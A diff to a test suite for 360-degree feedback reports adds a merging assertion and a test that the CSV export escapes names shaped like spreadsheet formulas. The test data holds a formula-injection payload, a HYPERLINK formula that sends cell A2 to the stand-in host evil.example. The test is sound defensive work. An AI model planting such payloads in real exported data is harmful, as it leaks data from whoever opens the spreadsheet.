@@ -85,6 +85,8 @@ describe.each(testEngines())('360 reports on %s', (engine) => {
     expect(data.formattedLabel).toBe(`${formatShortDate(new Date())} - First (3)`);
     expect(data.scales).toHaveLength(12);
     expect(data.groups).toEqual([{ key: 'peer', count: 3, displayName: null }]);
+    // Three peers are a group of their own: nothing merged, nothing counted only in the whole.
+    expect(data.merging).toEqual({ together: [], fewInEach: true, wholeOnly: [], minGroupSize: 3 });
     const lis = data.scales.find((s) => s.code === 'LIS')!;
     expect(lis).toMatchObject({
       medianScore: 3,
@@ -218,6 +220,13 @@ describe.each(testEngines())('360 reports on %s', (engine) => {
       .where('app_name', '=', 'profile')
       .executeTakeFirstOrThrow();
     const today = new Date().toISOString().slice(0, 10);
+    // A person named like a formula: the spreadsheet must show the name, not run it.
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
+    await t.database.db
+      .updateTable('user_account')
+      .set({ first_name: formula, last_name: '@SUM(1)' })
+      .where('user_id', '=', pat.userId)
+      .execute();
     const res = await call(
       t,
       'GET',
@@ -230,6 +239,7 @@ describe.each(testEngines())('360 reports on %s', (engine) => {
     expect(body.split('\r\n')[0]).toMatch(
       /^"First name","Last name","Report","Released","Describers","Listening"/,
     );
+    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")","'@SUM(1)"`);
     const empty = await call(
       t,
       'GET',
